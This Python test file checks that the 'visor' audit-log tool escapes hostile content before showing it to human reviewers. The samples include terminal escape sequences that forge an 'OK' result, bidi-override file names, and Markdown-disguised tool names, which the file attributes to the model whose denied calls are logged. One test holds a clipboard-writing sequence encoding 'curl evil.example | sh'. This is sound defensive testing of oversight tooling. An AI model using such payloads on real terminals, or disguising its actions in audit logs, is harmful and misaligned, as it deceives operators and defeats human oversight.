"""Red team, evidence and what humans read: through the real `visor` commands.

Whoever can write a log (the one `visor audit verify` exists to catch) also
chooses what verify and repair quote from it. Those lines go to a terminal, so
they must not carry the bytes that would let the forger repaint a FAIL as OK.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.audit.helpers import write_log
from visor.audit import record as rec
from visor.audit.report import build_report
from visor.audit.writer import AuditWriter
from visor.display import has_unsafe

# Erase the line, go back to its start, print a pass, and hide what follows.
FAKE_PASS = (
    "\x1b[2K\rOK 3 records, seq 0..2, 1 session(s), 1 file(s) [fs.jsonl], head " + "ab" * 32 + "\x1b[8m"
)


def _visor(*argv: str, home: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "VISOR_HOME": str(home)}
    return subprocess.run(
        [sys.executable, "-m", "visor.cli", *argv], capture_output=True, text=True, env=env, timeout=60
    )


def _forged(path: Path, rotated_from: str) -> None:
    """A chain with recomputed hashes whose first record claims to continue `rotated_from`."""
    prev, out = "cd" * 32, []
    events = [
        {"event": "audit_open", "file": path.name, "rotated_from": rotated_from},
        {"event": "session_end"},
    ]
    for seq, event in enumerate(events, start=5):
        enc = rec.build(event, session="s", seq=seq, prev=prev)
        prev = enc.record["hash"]
        out.append(enc.line)
    path.write_bytes(b"".join(out))


def test_verify_and_repair_never_print_a_forged_logs_escape_sequences(tmp_path: Path) -> None:
    log = tmp_path / "fs.jsonl"
    _forged(log, FAKE_PASS)
    verify = _visor("audit", "verify", str(log), home=tmp_path)
    assert verify.returncode == 1
    assert verify.stdout.startswith("FAIL ") and "\\x1b[2K\\rOK 3 records" in verify.stdout
    assert not has_unsafe(verify.stdout.replace("\n", ""))
    repair = _visor("audit", "repair", str(log), home=tmp_path)
    assert repair.returncode == 1 and "without --force" in repair.stderr
    assert not has_unsafe(repair.stderr.replace("\n", ""))


def test_verify_never_prints_a_planted_file_name_raw(tmp_path: Path) -> None:
    audit = tmp_path / "audit"
    audit.mkdir()
    (audit / "x\x1b[2K\rOK.jsonl").write_bytes(b"not a record\n")
    (audit / "y\u202e.jsonl.1").write_bytes(b"")
    verify = _visor("audit", "verify", home=tmp_path)
    assert verify.returncode == 1 and verify.stdout.count("FAIL ") == 2
    assert not has_unsafe(verify.stdout.replace("\n", ""))


# A character reference is decoded by every CommonMark renderer unless its & is escaped.
_REFERENCE = re.compile(r"(?<!\\)&(?:#[0-9]{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")


def test_the_review_pack_renders_a_tool_name_as_the_characters_the_log_holds(tmp_path: Path) -> None:
    # Each is a denied call's tool name, chosen by the model: rendered, the first shows as
    # read_file behind a right-to-left override, the second struck through, the third a tag.
    names = ["&#x202E;elif_daer", "~~send_email~~", "&lt;img src=x&gt;", "&ZeroWidthSpace;rm"]
    log = tmp_path / "mail.jsonl"
    writer = AuditWriter.open(log, session="s")
    for i, name in enumerate(names):
        writer.append({"event": "deny", "server": "mail", "tool": name, "id": i, "rule": "pin.unknown_tool"})
    writer.close_sync()
    pack = build_report([log])
    assert "elif" in pack and "send" in pack
    assert _REFERENCE.search(pack) is None, _REFERENCE.search(pack)
    assert re.search(r"(?<!\\)~(?<!\\)~", pack) is None


@pytest.mark.parametrize("damage", ["deleted", "emptied"])
@pytest.mark.parametrize("signed", [False, True], ids=["keyless", "signed"])
def test_the_review_pack_never_vouches_for_a_log_whose_live_file_is_gone(
    tmp_path: Path, damage: str, signed: bool
) -> None:
    """`visor audit verify` fails a log whose newest records went with its live file; the pack's
    integrity line said it verified (it checked the files present, each rotated one ending signed)."""
    log = tmp_path / "audit" / "fs.jsonl"
    log.parent.mkdir()
    key_args: list[str] = []
    if signed:
        signing = pytest.importorskip("visor.audit.signing")
        pytest.importorskip("cryptography")
        pair = signing.generate(tmp_path / "keys")
        key_args = ["--key", str(pair.public)]
        signer = signing.load_signer(pair.private, every=1000, seconds=0)
        write_log(log, 12, max_bytes=2000, signer=signer)
    else:
        write_log(log, 12, max_bytes=2000)
    assert (log.parent / "fs.jsonl.2").exists()
    if damage == "deleted":
        log.unlink()
    else:
        log.write_bytes(b"")
    verify = _visor("audit", "verify", str(log), *key_args, home=tmp_path)
    assert verify.returncode == 1 and verify.stdout.startswith(f"FAIL {log}: ")
    for named in ([str(log)], []):  # the log named, and every log of $VISOR_HOME found
        report = _visor("report", *named, *key_args, home=tmp_path)
        assert report.returncode == 0, report.stderr
        assert "Chain integrity (whole log, not only the window): DOES NOT VERIFY" in report.stdout
        assert "**high**: The audit chain does not verify" in report.stdout


def test_the_review_pack_of_a_log_that_is_not_there_does_not_verify(tmp_path: Path) -> None:
    report = _visor("report", str(tmp_path / "nothing.jsonl"), home=tmp_path)
    assert report.returncode == 0, report.stderr
    assert "DOES NOT VERIFY" in report.stdout and "no such file" in report.stdout


def test_visor_doctor_quotes_a_forged_log_escaped(tmp_path: Path) -> None:
    """`visor doctor` verifies every log of $VISOR_HOME and says why one fails, as verify does."""
    home = tmp_path / "visor-home"
    (home / "audit").mkdir(parents=True)
    _forged(home / "audit" / "fs.jsonl", FAKE_PASS + "\u202e")
    env = {**os.environ, "VISOR_HOME": str(home), "HOME": str(tmp_path)}
    for extra in ([], ["--json"]):
        doctor = subprocess.run(
            [sys.executable, "-m", "visor.cli", "doctor", "--no-start", *extra],
            capture_output=True,
            text=True,
            env=env,
            cwd=tmp_path,
            timeout=60,
        )
        assert doctor.returncode == 1, doctor.stdout + doctor.stderr
        assert "does not verify" in doctor.stdout and "OK 3 records" in doctor.stdout
        assert not has_unsafe(doctor.stdout.replace("\n", ""))


def test_a_fifo_among_the_logs_stops_no_check_and_no_export(tmp_path: Path) -> None:
    """A FIFO under a log's name blocked the open for ever: `visor audit verify` with no argument
    never reported (so never failed), show, report and export never finished, and the good log
    beside it was never checked or shipped."""
    audit = tmp_path / "audit"
    audit.mkdir()
    write_log(audit / "fs.jsonl", 3)
    os.mkfifo(audit / "a.jsonl")
    verify = _visor("audit", "verify", home=tmp_path)
    assert verify.returncode == 1
    fail, ok = verify.stdout.splitlines()
    assert fail.startswith(f"FAIL {audit / 'a.jsonl'}") and "not a regular file" in fail
    assert ok.startswith("OK 4 records")
    show = _visor("audit", "show", home=tmp_path)
    assert (
        show.returncode == 0
        and "3 record(s) from 2 log(s)" in show.stderr
        and "cannot be read" in show.stderr
    )
    report = _visor("report", home=tmp_path)
    assert (
        report.returncode == 0
        and "DOES NOT VERIFY" in report.stdout
        and "not a regular file" in report.stdout
    )
    export = _visor("audit", "export", home=tmp_path)
    assert export.returncode == 1 and "not a regular file" in export.stderr
    assert len(export.stdout.splitlines()) == 4  # fs.jsonl shipped whole


def test_repair_of_a_fifo_or_a_folder_says_why_without_a_traceback(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "a.jsonl")
    (tmp_path / "b.jsonl").mkdir()
    for name, why in (("a.jsonl", "not a regular file"), ("b.jsonl", "cannot open")):
        repair = _visor("audit", "repair", str(tmp_path / name), home=tmp_path)
        assert repair.returncode == 1 and why in repair.stderr, repair.stderr
        assert "Traceback" not in repair.stderr


def test_a_fifo_lock_file_does_not_hang_verify_key(tmp_path: Path) -> None:
    signing = pytest.importorskip("visor.audit.signing")
    pytest.importorskip("cryptography")
    pair = signing.generate(tmp_path / "keys")
    log = tmp_path / "fs.jsonl"
    write_log(log, 3, signer=signing.load_signer(pair.private, every=1000, seconds=0))
    write_log(log, 1)  # a session without the key: the log ends unsigned, so verify asks the lock
    lock = tmp_path / "fs.jsonl.lock"
    lock.unlink()
    os.mkfifo(lock)
    verify = _visor("audit", "verify", "--key", str(pair.public), str(log), home=tmp_path)
    assert verify.returncode == 1 and "no Visor is writing this log" in verify.stdout


def test_a_collectors_answer_reaches_the_terminal_escaped(tmp_path: Path) -> None:
    """`visor audit export --otlp` quotes the collector's refusal: an OSC 52 sequence in it would
    have written the operator's clipboard, a CSI one repainted the line."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class Refusing(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", "0")))
            body = b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rexported 4 record(s)\xc2\x9b"
            self.send_response(400)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_args: object) -> None:
            return None

    write_log(tmp_path / "audit" / "fs.jsonl", 3)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Refusing)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}"
        export = _visor("audit", "export", "--otlp", url, home=tmp_path)
    finally:
        server.shutdown()
    assert export.returncode == 1 and "HTTP 400" in export.stderr
    assert not has_unsafe(export.stderr.replace("\n", ""))
